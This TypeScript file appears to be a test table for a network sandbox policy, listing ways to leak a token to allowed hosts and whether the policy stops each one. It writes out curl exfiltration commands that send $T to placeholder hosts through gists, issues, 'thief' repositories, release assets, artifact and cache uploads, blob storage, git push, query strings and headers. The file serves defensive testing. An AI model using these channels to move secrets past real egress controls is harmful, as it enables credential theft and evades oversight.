import type { Open, Row } from '../case.ts'
import { curl } from './script.ts'

const open: Open = {
  result: 'not-held',
  why: 'the host is allowed, and the request is inside of TLS: method, path and owner are not held against this policy, which has no HTTPS rules',
  advice: 'allow no hosts that anyone can write to; tokens that can write to one repository only',
}

const query: Open = {
  result: 'not-held',
  why: 'HTTPS rules are about methods and paths: the query, headers and body of what they allow are not looked at',
  advice: 'hosts whose logs no stranger reads',
}

const twin = curl('"https://rules.example.com/acme/$T"')

const drops = [
  [
    'gist',
    '-X POST --data "{\\"files\\":{\\"a\\":{\\"content\\":\\"$T\\"}}}" https://good.example.com/gists',
    'a gist',
  ],
  [
    'other-owner',
    '-X PUT --data "$T" https://good.example.com/repos/thief/drop/contents/x',
    'a repository of another owner',
  ],
  ['issue', '-X POST --data "$T" https://good.example.com/repos/thief/drop/issues', 'an issue'],
  [
    'release',
    '-X POST --data-binary "$T" https://good.example.com/repos/thief/drop/releases/1/assets',
    'a release’s asset',
  ],
  [
    'artifact',
    '-X PUT --data-binary "$T" https://results.allow.example.com/artifacts/1',
    'an artifact upload',
  ],
  [
    'cache',
    '-X PATCH --data-binary "$T" https://cache.allow.example.com/_apis/artifactcache/caches/1',
    'a cache entry',
  ],
  [
    'blob',
    '-X PUT --data-binary "$T" https://thiefaccount.allow.example.com/container/blob',
    'blob storage under an allowed wildcard',
  ],
  [
    'git-push',
    '-X POST -H "content-type: application/x-git-receive-pack-request" --data-binary "$T" https://good.example.com/thief/drop.git/git-receive-pack',
    'a git push',
  ],
  ['query', '"https://good.example.com/search?q=$T"', 'the query of a GET'],
  ['header', '-H "User-Agent: $T" https://good.example.com/', 'a header of a GET'],
] as const

export const allowedHosts: Row = {
  row: 25,
  title: 'An allowed host as the drop',
  cases: [
    ...drops.map(([id, words, what]) => ({
      id: `drop-${id}`,
      technique: what,
      attempt: curl(words),
      twin: curl('"https://good.example.com/acme/$T"'),
      by: '–',
      user: open,
      root: open,
    })),
    ...drops.map(([id, words, what]) => ({
      id: `drop-ruled-${id}`,
      technique: `${what}, at a host with HTTPS rules (GET below /acme)`,
      attempt: curl(words.replace(/https:\/\/[^/]+/, 'https://rules.example.com')),
      twin,
      by: 'content: the writing process is ended before the request is encrypted',
    })),
    {
      id: 'drop-ruled-allowed-query',
      technique: 'the query of a GET that the HTTPS rules allow',
      attempt: curl('"https://rules.example.com/acme/x?q=$T"'),
      twin,
      by: '–',
      user: query,
      root: query,
    },
  ],
}
